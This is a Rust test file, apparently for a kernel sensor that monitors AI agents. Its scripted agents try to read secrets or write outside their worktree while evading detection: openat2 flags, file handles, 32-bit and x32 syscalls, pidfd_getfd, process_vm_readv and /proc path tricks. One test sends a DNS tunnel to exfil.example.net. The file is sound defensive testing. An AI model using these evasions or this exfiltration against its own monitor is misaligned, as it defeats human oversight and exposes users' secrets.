//! Evasion against the real kernel: for every evasion the README's "Known gaps" table calls
//! caught, a scripted agent (started with `agent-sensor exec`) tries it on a sensitive file or on
//! a file outside its worktree, and the test asserts the alert, with the real canonical path.
//! For the evasions the table lists as gaps, `gap_…_is_at_least_recorded` tests pin down the
//! partial behaviour the table promises. LD_PRELOAD and an fd received over a unix socket from
//! an untracked helper have nothing recorded to assert and are not tested here.
//!
//! Every case reads its own secret (or writes its own outside file): alerts are deduplicated per
//! agent, rule and target, so a shared target could hide a miss behind an earlier case's alert.
//! Scripts check that they really did what they claim (read the secret, were re-parented…), so
//! a case that silently did nothing fails instead of passing.

use std::{
    os::unix::fs::MetadataExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use agent_sensor_tests::*;
use serde_json::Value;

const PYTHON: &str = "/usr/bin/python3";
const CAT: &str = "/usr/bin/cat";
const SENSITIVE_READ: &str = "credential.sensitive_read";
const WRITE_OUTSIDE: &str = "isolation.write_outside_worktree";

/// The shared scene, plus a directory of the scripts the agents run.
struct Scene {
    base: agent_sensor_tests::Scene,
    scripts: PathBuf,
}

impl std::ops::Deref for Scene {
    type Target = agent_sensor_tests::Scene;

    fn deref(&self) -> &Self::Target {
        &self.base
    }
}

impl Scene {
    fn new(tag: &str) -> Self {
        Self::with_profile(tag, "")
    }

    /// With more lines of the test profile (`{root}` is the scene's directory).
    fn with_profile(tag: &str, profile: &str) -> Self {
        let base = agent_sensor_tests::Scene::new(tag, profile, "");
        let scripts = base.root.join("scripts");
        std::fs::create_dir_all(&scripts).unwrap();
        Self { base, scripts }
    }

    fn sensor(&self) -> Sensor {
        self.base.sensor("monitor")
    }

    /// A new sensitive file `secrets/<name>` (content `secret:<name>`); its canonical path.
    fn secret(&self, name: &str) -> PathBuf {
        let path = self.secrets.join(name);
        std::fs::write(&path, format!("secret:{name}\n")).unwrap();
        path
    }

    /// A new file `outside/<name>` holding `content`; its canonical path.
    fn outside_file(&self, name: &str, content: &str) -> PathBuf {
        let path = self.outside.join(name);
        std::fs::write(&path, content).unwrap();
        path
    }

    /// Writes a python script (outside the worktree, not sensitive); returns its path.
    fn script(&self, name: &str, text: &str) -> String {
        let path = self.scripts.join(format!("{name}.py"));
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_string()
    }
}

/// The file a program path names once symlinks are followed: what the kernel reports as the
/// executable (`/usr/bin/python3` is `/usr/bin/python3.11`, `/bin/sh` is `/usr/bin/dash`).
fn real(program: &str) -> String {
    std::fs::canonicalize(program)
        .unwrap_or_else(|e| panic!("{program}: {e}"))
        .to_string_lossy()
        .into_owned()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Runs `argv` (no shell in between) as agent `name` through `agent-sensor exec`, in the
/// worktree; panics unless it exits 0; returns its stdout.
fn run_agent(sensor: &Sensor, name: &str, worktree: &Path, argv: &[&str]) -> String {
    let out = Command::new(sensor_binary())
        .args(["exec", "--agent", name, "--worktree", s(worktree)])
        .arg("--control-socket")
        .arg(&sensor.socket)
        .arg("--")
        .args(argv)
        .current_dir(worktree)
        .stdin(Stdio::null())
        .output()
        .expect("agent-sensor exec");
    assert!(
        out.status.success(),
        "agent {name} ({argv:?}) failed with {}:\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Stops the sensor (every event is processed by then); returns (events, alerts).
fn finish(mut sensor: Sensor) -> (Vec<Value>, Vec<Value>) {
    let events = sensor.stop();
    let alerts = sensor.alerts();
    (events, alerts)
}

/// The summaries of `agent`'s alerts of `rule`, in order.
fn summaries(alerts: &[Value], rule: &str, agent: &str) -> Vec<String> {
    alerts
        .iter()
        .filter(|a| a["rule"] == rule && a["agent"] == agent)
        .map(|a| a["summary"].as_str().unwrap_or_default().to_string())
        .collect()
}

/// The alert of `rule` for `agent` with an evidence event whose `path` or `path2` is `path`,
/// and that evidence event; panics listing every alert if there is none.
fn expect_alert<'a>(
    alerts: &'a [Value],
    rule: &str,
    agent: &str,
    path: &Path,
) -> (&'a Value, &'a Value) {
    alerts
        .iter()
        .filter(|a| a["rule"] == rule && a["agent"] == agent)
        .find_map(|a| {
            let evidence = a["evidence"].as_array()?.iter().find(|e| {
                e["path"].as_str() == Some(s(path)) || e["path2"].as_str() == Some(s(path))
            })?;
            Some((a, evidence))
        })
        .unwrap_or_else(|| {
            panic!(
                "no {rule} alert for agent {agent} on {}; alerts: {alerts:#?}",
                path.display()
            )
        })
}

/// The value after `key=` in `key=value` words printed by a script.
fn field(out: &str, key: &str) -> u64 {
    out.split_whitespace()
        .find_map(|w| w.strip_prefix(&format!("{key}=")))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("no {key}= in the script's output {out:?}"))
}

/// The name of query `i` of a DNS tunnel: a long base32 label under one domain.
fn tunnel_name(i: u8) -> String {
    format!("mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net")
}

/// Query `i` of a DNS tunnel (type TXT), as `hex:` for the helper scripts' command lines.
fn tunnel_query_hex(i: u8) -> String {
    dns_query_hex(i as u16, &tunnel_name(i), 16)
}

fn assert_dns_tunnel_alert(alerts: &[Value], agent: &str) {
    assert!(
        alerts
            .iter()
            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == agent),
        "no exfil.dns_tunnel alert for {agent}: {alerts:#?}"
    );
}

/// Events of `kind` of process (tgid) `tgid`.
fn events_of<'a>(events: &'a [Value], kind: &str, tgid: u64) -> Vec<&'a Value> {
    events
        .iter()
        .filter(|e| e["kind"] == kind && e["tgid"] == tgid)
        .collect()
}

#[test]
fn openat2_with_resolve_flags_is_judged_by_the_file_opened() {
    if !can_run_kernel_tests("openat2_with_resolve_flags_is_judged_by_the_file_opened") {
        return;
    }
    let scene = Scene::new("openat2");
    let beneath = scene.secret("beneath");
    let nosym = scene.secret("nosymlinks");
    let inroot = scene.secret("inroot");
    let script = scene.script(
        "openat2",
        "import ctypes, errno, os, struct, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         NO_XDEV, NO_MAGICLINKS, NO_SYMLINKS, BENEATH, IN_ROOT = 1, 2, 4, 8, 16\n\
         def openat2(dirfd, path, resolve):\n\
         \x20   how = ctypes.create_string_buffer(struct.pack('QQQ', os.O_RDONLY | os.O_CLOEXEC, 0, resolve), 24)\n\
         \x20   fd = libc.syscall(ctypes.c_long(437), ctypes.c_long(dirfd), ctypes.c_char_p(path.encode()), how, ctypes.c_long(24))\n\
         \x20   if fd < 0:\n\
         \x20       raise OSError(ctypes.get_errno(), 'openat2 ' + path)\n\
         \x20   data = os.read(fd, 100)\n\
         \x20   os.close(fd)\n\
         \x20   assert data.startswith(b'secret:'), data\n\
         secrets, root = sys.argv[1], sys.argv[2]\n\
         d = os.open(secrets, os.O_RDONLY | os.O_DIRECTORY)\n\
         # The flags are really enforced: escaping the dirfd is refused.\n\
         try:\n\
         \x20   openat2(d, '../secrets/beneath', BENEATH)\n\
         \x20   sys.exit('RESOLVE_BENEATH did not refuse ..')\n\
         except OSError as e:\n\
         \x20   assert e.errno == errno.EXDEV, e\n\
         openat2(d, 'beneath', BENEATH | NO_XDEV)\n\
         openat2(-100, secrets + '/nosymlinks', NO_SYMLINKS | NO_MAGICLINKS)\n\
         # '/secrets/inroot' means <root>/secrets/inroot: the dirfd is the root.\n\
         r = os.open(root, os.O_RDONLY | os.O_DIRECTORY)\n\
         openat2(r, '/secrets/inroot', IN_ROOT)\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "openat2",
        &scene.worktree,
        &[PYTHON, &script, s(&scene.secrets), s(&scene.root)],
    );
    let (_, alerts) = finish(sensor);
    let nosym_arg = nosym.to_str().unwrap().to_string();
    // RESOLVE_* bits, as the script passes them.
    let (no_xdev, no_magiclinks, no_symlinks, beneath_bit, in_root) = (1, 2, 4, 8, 16);
    for (secret, path_arg, resolve) in [
        (&beneath, "beneath", beneath_bit | no_xdev),
        (&nosym, nosym_arg.as_str(), no_symlinks | no_magiclinks),
        (&inroot, "/secrets/inroot", in_root),
    ] {
        let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "openat2", secret);
        assert_eq!(ev["syscall"], "openat2", "{alert:#}");
        assert_eq!(ev["path_arg"], path_arg, "{alert:#}");
        // Flags and resolve come from `struct open_how` in the process's memory.
        assert_eq!(
            ev["syscall_flags"],
            (libc::O_RDONLY | libc::O_CLOEXEC) as i64,
            "{alert:#}"
        );
        assert_eq!(ev["arg"], resolve, "{alert:#}");
        assert_eq!(ev["path_source"], "kernel", "{alert:#}");
        assert_eq!(alert["exe"], real(PYTHON), "{alert:#}");
    }
}

#[test]
fn open_by_handle_at_is_judged_by_the_file_opened() {
    if !can_run_kernel_tests("open_by_handle_at_is_judged_by_the_file_opened") {
        return;
    }
    let scene = Scene::new("byhandle");
    let secret = scene.secret("byhandle");
    let victim = scene.outside_file("byhandle-victim", "v\n");
    // name_to_handle_at turns a path into a handle; open_by_handle_at opens the handle with no
    // path at all (it needs CAP_DAC_READ_SEARCH: the tests run as root).
    let script = scene.script(
        "byhandle",
        "import ctypes, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         class Handle(ctypes.Structure):\n\
         \x20   _fields_ = [('size', ctypes.c_uint), ('type', ctypes.c_int), ('bytes', ctypes.c_ubyte * 128)]\n\
         def open_by_handle(path, flags):\n\
         \x20   handle, mount_id = Handle(128), ctypes.c_int()\n\
         \x20   if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:\n\
         \x20       raise OSError(ctypes.get_errno(), 'name_to_handle_at ' + path)\n\
         \x20   mount = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)\n\
         \x20   fd = libc.open_by_handle_at(mount, ctypes.byref(handle), flags)\n\
         \x20   if fd < 0:\n\
         \x20       raise OSError(ctypes.get_errno(), 'open_by_handle_at ' + path)\n\
         \x20   os.close(mount)\n\
         \x20   return fd\n\
         fd = open_by_handle(sys.argv[1], os.O_RDONLY)\n\
         assert os.read(fd, 100).startswith(b'secret:')\n\
         os.close(fd)\n\
         fd = open_by_handle(sys.argv[2], os.O_WRONLY | os.O_APPEND)\n\
         assert os.write(fd, b'written by handle\\n') > 0\n\
         os.close(fd)\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "byhandle",
        &scene.worktree,
        &[PYTHON, &script, s(&secret), s(&victim)],
    );
    assert!(std::fs::read_to_string(&victim)
        .unwrap()
        .contains("written by handle"));
    let (_, alerts) = finish(sensor);
    for (rule, target) in [(SENSITIVE_READ, &secret), (WRITE_OUTSIDE, &victim)] {
        let (alert, ev) = expect_alert(&alerts, rule, "byhandle", target);
        assert_eq!(ev["syscall"], "open_by_handle_at", "{alert:#}");
        assert_eq!(ev["path_source"], "kernel", "{alert:#}");
    }
}

/// Extended attributes (file capabilities, ACLs), a node made with mknod and a file's times
/// change files as surely as a write: outside the worktree each is a write outside it.
#[test]
fn xattrs_mknod_and_times_outside_the_worktree_are_writes() {
    if !can_run_kernel_tests("xattrs_mknod_and_times_outside_the_worktree_are_writes") {
        return;
    }
    let scene = Scene::new("metadata");
    let tagged = scene.outside_file("metadata-xattr", "x\n");
    let untagged = scene.outside_file("metadata-removexattr", "x\n");
    let fifo = scene.outside.join("metadata-fifo");
    let retimed = scene.outside_file("metadata-utime", "x\n");
    // The agent removes an attribute the test set: through its descriptor, no path given.
    let name = std::ffi::CString::new(s(&untagged)).unwrap();
    // SAFETY: NUL-terminated strings and a 1-byte value that outlive the call.
    let set = unsafe {
        libc::setxattr(
            name.as_ptr(),
            c"user.agent".as_ptr(),
            b"1".as_ptr().cast(),
            1,
            0,
        )
    };
    assert_eq!(set, 0, "setxattr: {}", std::io::Error::last_os_error());
    let script = scene.script(
        "metadata",
        "import os, stat, sys\n\
         tagged, untagged, fifo, retimed = sys.argv[1:]\n\
         os.setxattr(tagged, 'user.agent', b'1')\n\
         fd = os.open(untagged, os.O_RDONLY)\n\
         os.removexattr(fd, 'user.agent')\n\
         os.close(fd)\n\
         os.mknod(fifo, stat.S_IFIFO | 0o600)\n\
         os.utime(retimed, (0, 0))\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "metadata",
        &scene.worktree,
        &[
            PYTHON,
            &script,
            s(&tagged),
            s(&untagged),
            s(&fifo),
            s(&retimed),
        ],
    );
    use std::os::unix::fs::FileTypeExt as _;
    assert!(std::fs::metadata(&fifo).unwrap().file_type().is_fifo());
    let (_, alerts) = finish(sensor);
    for (target, syscall, verb) in [
        (&tagged, "setxattr", "changed the extended attributes of"),
        (
            &untagged,
            "fremovexattr",
            "changed the extended attributes of",
        ),
        (&fifo, "mknodat", "created with mknod"),
        (&retimed, "utimensat", "set the times of"),
    ] {
        let (alert, ev) = expect_alert(&alerts, WRITE_OUTSIDE, "metadata", target);
        assert_eq!(ev["syscall"], syscall, "{alert:#}");
        assert!(
            alert["summary"].as_str().unwrap().contains(verb),
            "{alert:#}"
        );
    }
}

/// A 64-bit process can make 32-bit syscalls (`int $0x80`): other numbers (`open` is 5, x86_64's
/// `fstat`), other registers, arguments 32 bits wide (the kernel ignores the registers' upper
/// halves, which the helper fills with garbage). They are judged as the 64-bit calls that do the
/// same, `socketcall`'s too; the first of each process is reported besides.
#[test]
fn thirty_two_bit_syscalls_are_judged_as_the_64_bit_calls_they_are() {
    if !can_run_kernel_tests("thirty_two_bit_syscalls_are_judged_as_the_64_bit_calls_they_are") {
        return;
    }
    let scene = Scene::new("compat");
    let opened = scene.secret("compat-open");
    let opened_at = scene.secret("compat-openat");
    let made = scene.outside.join("compat-dir");
    let moved = scene.outside.join("compat-moved");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let helper = scene.script("syscall32", SYSCALL32_PY);
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "compat",
        &scene.worktree,
        &[
            PYTHON,
            &helper,
            "getpid",
            "open",
            s(&opened),
            "openat",
            s(&opened_at),
            "mkdir",
            s(&made),
            "rename",
            s(&made),
            s(&moved),
            "socketcall-connect",
            "127.0.0.1",
            &port.to_string(),
            "socket",
            "17",
            "3",
            "768",
        ],
    );
    // The helper did each thing it claims.
    let results: Vec<_> = out.lines().map(|l| l.split_once(' ').unwrap()).collect();
    let pid: u64 = results[0].1.parse().unwrap();
    assert_eq!(
        results[1..],
        [
            ("open", "secret:compat-open"),
            ("openat", "secret:compat-openat"),
            ("mkdir", "0"),
            ("rename", "0"),
            ("socketcall-connect", "0"),
            ("socket", "3"),
        ],
        "{out}"
    );
    assert!(moved.is_dir());
    let (events, alerts) = finish(sensor);

    // Read as the calls they are, marked as 32-bit ones.
    for (path, syscall) in [(&opened, "open"), (&opened_at, "openat")] {
        let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "compat", path);
        assert_eq!(ev["syscall"], syscall, "{alert:#}");
        assert_eq!(ev["flags"], serde_json::json!(["i386"]), "{alert:#}");
    }
    let (alert, ev) = expect_alert(&alerts, WRITE_OUTSIDE, "compat", &made);
    assert_eq!(ev["syscall"], "mkdir", "{alert:#}");
    let (alert, ev) = expect_alert(&alerts, WRITE_OUTSIDE, "compat", &moved);
    assert_eq!(ev["syscall"], "rename", "{alert:#}");
    let connects = events_of(&events, "net.connect", pid);
    assert!(
        connects.iter().any(|e| e["addr"]["ip"] == "127.0.0.1"
            && e["addr"]["port"] == port
            && e["syscall"] == "connect"
            && e["flags"] == serde_json::json!(["i386"])),
        "{connects:#?}"
    );
    // A packet socket made so is what a 64-bit one is: around the egress allowlist.
    let sockets = events_of(&events, "net.socket", pid);
    assert_eq!(sockets.len(), 1, "{events:#?}");
    assert_eq!(sockets[0]["socket"]["family"], 17, "{:#}", sockets[0]);
    assert_eq!(
        summaries(&alerts, "exfil.unallowed_egress", "compat"),
        [
            "opened a raw packet socket (type 3, ethertype 0x0003), which sends around the egress \
          allowlist"
        ],
        "{alerts:#?}"
    );

    // The blind spot's marker, once per process, with the i386 number of its first call.
    let compat = events_of(&events, "process.compat_syscall", pid);
    assert_eq!(compat.len(), 1, "{events:#?}");
    assert_eq!(compat[0]["args"][0], 20, "{:#}", compat[0]);
    assert_eq!(compat[0]["ret"], pid, "{:#}", compat[0]);
    let tamper = summaries(&alerts, "tamper.sensor", "compat");
    assert_eq!(tamper.len(), 1, "{alerts:#?}");
    assert!(
        tamper[0].starts_with("made a 32-bit syscall (i386 number 20)"),
        "{tamper:#?}"
    );
}

/// The kernel takes a syscall's number from the low 32 bits of `rax`: garbage in the upper half
/// changes nothing for it, and must change nothing for the sensor.
#[test]
fn a_syscall_number_with_garbage_in_its_upper_half_is_read_as_the_kernel_reads_it() {
    if !can_run_kernel_tests(
        "a_syscall_number_with_garbage_in_its_upper_half_is_read_as_the_kernel_reads_it",
    ) {
        return;
    }
    let scene = Scene::new("highrax");
    let secret = scene.secret("high-openat");
    let made = scene.outside.join("high-mkdir");
    let helper = scene.script("syscall32", SYSCALL32_PY);
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "highrax",
        &scene.worktree,
        &[
            PYTHON,
            &helper,
            "high-openat",
            s(&secret),
            "high-mkdir",
            s(&made),
        ],
    );
    assert_eq!(
        out, "high-openat secret:high-openat\nhigh-mkdir 0\n",
        "the calls ran"
    );
    let (_, alerts) = finish(sensor);
    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "highrax", &secret);
    assert_eq!(ev["syscall"], "openat", "{alert:#}");
    let (alert, ev) = expect_alert(&alerts, WRITE_OUTSIDE, "highrax", &made);
    assert_eq!(ev["syscall"], "mkdir", "{alert:#}");
}

/// The x32 ABI's syscalls (x86_64's `syscall` with the x32 bit in the number) are read as the
/// x86_64 calls they are, and the first is reported. This kernel has no x32 and refuses them
/// (ENOSYS): the test takes either outcome, and asserts what the sensor says of each.
#[test]
fn an_x32_syscall_is_read_as_the_x86_64_call() {
    if !can_run_kernel_tests("an_x32_syscall_is_read_as_the_x86_64_call") {
        return;
    }
    let scene = Scene::new("x32");
    let secret = scene.secret("x32-openat");
    let helper = scene.script("syscall32", SYSCALL32_PY);
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "x32",
        &scene.worktree,
        &[PYTHON, &helper, "x32-openat", s(&secret)],
    );
    let ret: i64 = out
        .trim()
        .strip_prefix("x32-openat ")
        .unwrap()
        .parse()
        .unwrap();
    let (events, alerts) = finish(sensor);
    let opens: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "file.open" && e["path"] == s(&secret))
        .collect();
    assert_eq!(opens.len(), 1, "{events:#?}");
    assert_eq!(opens[0]["syscall"], "openat", "{:#}", opens[0]);
    assert_eq!(
        opens[0]["flags"],
        serde_json::json!(["x32"]),
        "{:#}",
        opens[0]
    );
    if ret == -38 {
        assert_eq!(opens[0]["ret"], -38, "{:#}", opens[0]);
    } else {
        // A kernel with x32: the secret was read.
        assert!(ret >= 0, "{out}");
        expect_alert(&alerts, SENSITIVE_READ, "x32", &secret);
    }
    assert_eq!(
        summaries(&alerts, "tamper.sensor", "x32")
            .iter()
            .filter(|s| s.starts_with("made an x32 syscall (number 257 with the x32 bit)"))
            .count(),
        1,
        "{alerts:#?}"
    );
}

/// A DNS tunnel sent the ways the syscall records miss: `write` and `writev` on a connected UDP
/// socket, and a `sendmsg` whose query is split over iovecs or follows an empty one. Each
/// query is read from its packet as it leaves (`net.dns_packet`), over IPv4 and IPv6.
#[test]
fn a_dns_tunnel_sent_with_write_or_split_iovecs_is_caught_from_its_packets() {
    if !can_run_kernel_tests(
        "a_dns_tunnel_sent_with_write_or_split_iovecs_is_caught_from_its_packets",
    ) {
        return;
    }
    let scene = Scene::new("packetdns");
    let _resolver =
        std::net::UdpSocket::bind("127.0.0.76:53").expect("loopback listener on 127.0.0.76:53");
    let _resolver6 = std::net::UdpSocket::bind("[::1]:53").ok();
    let script = scene.script(
        "packetdns",
        "import os, socket, struct, sys\n\
         def query(i):\n\
         \x20   name = 'mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv%d.exfil.example.net' % i\n\
         \x20   q = struct.pack('>HHHHHH', i, 0x100, 1, 0, 0, 0)\n\
         \x20   for label in name.split('.'):\n\
         \x20       q += bytes([len(label)]) + label.encode()\n\
         \x20   return q + b'\\0' + struct.pack('>HH', 16, 1)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.connect(('127.0.0.76', 53))\n\
         os.write(s.fileno(), query(0))\n\
         q = query(1)\n\
         os.writev(s.fileno(), [q[:5], q[5:]])\n\
         q = query(2)\n\
         s.sendmsg([q[:5], q[5:]])\n\
         s.sendmsg([b'', query(3)])\n\
         s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
         s6.connect(('::1', 53))\n\
         os.write(s6.fileno(), query(4))\n\
         print('sent')\n",
    );
    let sensor = scene.sensor();
    let out = run_agent(&sensor, "packetdns", &scene.worktree, &[PYTHON, &script]);
    assert_eq!(out, "sent\n");
    let (events, alerts) = finish(sensor);
    let queried: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "net.dns_packet")
        .map(|e| (e["addr"]["ip"].clone(), e["dns"]["name"].clone()))
        .collect();
    let expected: Vec<_> = (0..5)
        .map(|i| {
            (
                serde_json::json!(if i == 4 { "::1" } else { "127.0.0.76" }),
                serde_json::json!(tunnel_name(i as u8)),
            )
        })
        .collect();
    assert_eq!(queried, expected, "{events:#?}");
    // The syscall records parse none of them (writes are not recorded; a sendmsg's record
    // holds its first buffer).
    assert!(
        !events
            .iter()
            .any(|e| e["kind"] == "net.send" && !e["dns"].is_null()),
        "{events:#?}"
    );
    assert_dns_tunnel_alert(&alerts, "packetdns");
}

/// A DNS tunnel sent with 32-bit calls (i386's `sendmsg`, whose `struct msghdr` has 32-bit
/// fields, and `socketcall`'s `sendmsg`, `sendto` and `send`): each query is read as a
/// 64-bit `sendto` of the same bytes to the same address, parsed and judged.
#[test]
fn a_dns_tunnel_through_32_bit_sends_is_caught() {
    if !can_run_kernel_tests("a_dns_tunnel_through_32_bit_sends_is_caught") {
        return;
    }
    let scene = Scene::new("compatdns");
    let helper = scene.script("syscall32", SYSCALL32_PY);
    let hows = [
        "sendmsg",
        "socketcall-sendmsg",
        "socketcall-sendto",
        "socketcall-send",
    ];
    let queries: Vec<String> = (0..hows.len() as u8).map(tunnel_query_hex).collect();
    let _resolver =
        std::net::UdpSocket::bind("127.0.0.78:53").expect("loopback listener on 127.0.0.78:53");
    let mut argv = vec![PYTHON, &helper];
    for (how, query) in hows.iter().zip(&queries) {
        argv.extend(["send", how, "127.0.0.78", "53", query.as_str()]);
    }
    let sensor = scene.sensor();
    let out = run_agent(&sensor, "compatdns", &scene.worktree, &argv);
    let sent: Vec<_> = out.lines().collect();
    assert_eq!(
        sent,
        hows.iter()
            .map(|how| format!("send {how} 77"))
            .collect::<Vec<_>>(),
        "{out}"
    );
    let (events, alerts) = finish(sensor);
    let queried: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "net.send" && e["flags"] == serde_json::json!(["i386"]))
        .map(|e| {
            (
                e["syscall"].clone(),
                e["addr"]["port"].clone(),
                e["bytes"].clone(),
                e["dns"]["name"].clone(),
            )
        })
        .collect();
    let expected: Vec<_> = (0..hows.len())
        .map(|i| {
            (
                serde_json::json!("sendto"),
                serde_json::json!(53),
                serde_json::json!(77),
                serde_json::json!(tunnel_name(i as u8)),
            )
        })
        .collect();
    assert_eq!(queried, expected, "{events:#?}");
    assert_dns_tunnel_alert(&alerts, "compatdns");
}

/// `pidfd_getfd` takes another process's descriptor (a file it opened, a socket, an io_uring
/// ring it polls), with that process's rights: caught like a read of its memory, the target
/// named from the pidfd even when the caller closes it at once (the daemon, reading it later
/// from `/proc`, lost that race on a busy machine), and as the process when the pidfd is one
/// of its threads'.
#[test]
fn a_descriptor_taken_from_another_process_with_pidfd_getfd_is_caught() {
    if !can_run_kernel_tests("a_descriptor_taken_from_another_process_with_pidfd_getfd_is_caught") {
        return;
    }
    let scene = Scene::new("pidfdgetfd");
    // A process of the test's, not the agent's, holding a file open on fd 0, with a second
    // thread: it prints that thread's id.
    let mut victim = Command::new(PYTHON)
        .args([
            "-c",
            "import threading, time\n\
             t = threading.Thread(target=time.sleep, args=(30,), daemon=True)\n\
             t.start()\n\
             print(t.native_id, flush=True)\n\
             time.sleep(30)\n",
        ])
        .stdin(std::fs::File::open(scene.outside_file("held", "held\n")).unwrap())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let victim_pid = victim.id();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(victim.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let victim_thread = line.trim().to_string();
    // pidfd_open(pid, flags): PIDFD_THREAD (O_EXCL) for a pidfd of one thread.
    let script = scene.script(
        "getfd",
        "import ctypes, os, sys, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         pidfd = libc.syscall(ctypes.c_long(434), ctypes.c_long(int(sys.argv[1])), ctypes.c_long(int(sys.argv[2])))\n\
         assert pidfd >= 0, os.strerror(ctypes.get_errno())\n\
         fd = libc.syscall(ctypes.c_long(438), ctypes.c_long(pidfd), ctypes.c_long(0), ctypes.c_long(0))\n\
         assert fd >= 0, os.strerror(ctypes.get_errno())\n\
         os.close(pidfd)\n\
         time.sleep(0.2)\n\
         print('taken=%s' % os.pread(fd, 4, 0).decode())\n",
    );
    let sensor = scene.sensor();
    let runs = [
        ("getfd", victim_pid.to_string(), "0"),
        ("getfd-thread", victim_thread, "128"),
    ];
    for (agent, target, flags) in &runs {
        let out = run_agent(
            &sensor,
            agent,
            &scene.worktree,
            &[PYTHON, &script, target, flags],
        );
        assert!(out.contains("taken=held"), "{agent}: {out}");
    }
    victim.kill().unwrap();
    victim.wait().unwrap();
    let (_, alerts) = finish(sensor);
    // The process is named, also when the pidfd was a thread's.
    for (agent, _, _) in &runs {
        let alert = alerts
            .iter()
            .find(|a| a["rule"] == SENSITIVE_READ && a["agent"] == *agent)
            .unwrap_or_else(|| panic!("no alert for {agent}; alerts: {alerts:#?}"));
        assert_eq!(
            alert["summary"],
            format!(
                "took a descriptor of process {victim_pid}, which is not one of its own, with \
                 pidfd_getfd"
            ),
            "{alert:#}"
        );
    }
}

#[test]
fn another_process_memory_read_with_process_vm_readv_is_caught() {
    if !can_run_kernel_tests("another_process_memory_read_with_process_vm_readv_is_caught") {
        return;
    }
    let scene = Scene::new("vmreadv");
    // A process of the test's, not the agent's: what the agent reads is someone else's memory.
    let mut victim = Command::new("/bin/sleep").arg("30").spawn().unwrap();
    let victim_pid = victim.id();
    let script = scene.script(
        "vmreadv",
        "import ctypes, sys\n\
         pid = int(sys.argv[1])\n\
         start = int(open('/proc/%d/maps' % pid).readline().split('-')[0], 16)\n\
         class Iovec(ctypes.Structure):\n\
         \x20   _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n\
         buf = ctypes.create_string_buffer(16)\n\
         local, remote = Iovec(ctypes.addressof(buf), 16), Iovec(start, 16)\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.process_vm_readv.restype = ctypes.c_ssize_t\n\
         n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n\
         assert n == 16, (n, ctypes.get_errno())\n\
         print('read=%d' % n)\n",
    );
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "vmreadv",
        &scene.worktree,
        &[PYTHON, &script, &victim_pid.to_string()],
    );
    victim.kill().unwrap();
    victim.wait().unwrap();
    assert_eq!(field(&out, "read"), 16);
    let (_, alerts) = finish(sensor);
    let alert = alerts
        .iter()
        .find(|a| a["rule"] == SENSITIVE_READ && a["agent"] == "vmreadv")
        .unwrap_or_else(|| panic!("no alert; alerts: {alerts:#?}"));
    assert_eq!(
        alert["summary"],
        format!(
            "read the memory of process {victim_pid}, which is not one of its own, with \
             process_vm_readv"
        ),
        "{alert:#}"
    );
    assert_eq!(
        alert["evidence"][0]["syscall"], "process_vm_readv",
        "{alert:#}"
    );
}

#[test]
fn proc_root_cwd_and_fd_paths_report_the_canonical_path() {
    if !can_run_kernel_tests("proc_root_cwd_and_fd_paths_report_the_canonical_path") {
        return;
    }
    let scene = Scene::new("procpaths");
    let cases = [
        scene.secret("procroot"),
        scene.secret("threadself"),
        scene.secret("pidcwd"),
        scene.secret("othercwd"),
        scene.secret("devfd"),
    ];
    let script = scene.script(
        "procpaths",
        "import os, subprocess, sys\n\
         secrets = sys.argv[1]\n\
         def read(p):\n\
         \x20   with open(p) as f:\n\
         \x20       assert f.read().startswith('secret:'), p\n\
         read('/proc/self/root' + secrets + '/procroot')\n\
         read('/proc/thread-self/root' + secrets + '/threadself')\n\
         os.chdir(secrets)\n\
         read('/proc/%d/cwd/pidcwd' % os.getpid())\n\
         os.chdir('/')\n\
         # Another process of the agent sits in the secrets directory.\n\
         other = subprocess.Popen(['/bin/sleep', '30'], cwd=secrets)\n\
         read('/proc/%d/cwd/othercwd' % other.pid)\n\
         other.kill(); other.wait()\n\
         d = os.open(secrets, os.O_PATH | os.O_DIRECTORY)\n\
         read('/dev/fd/%d/devfd' % d)\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "procpaths",
        &scene.worktree,
        &[PYTHON, &script, s(&scene.secrets)],
    );
    // `cat` resolves /proc/self as itself, not as its parent.
    let cat_case = scene.secret("catprocroot");
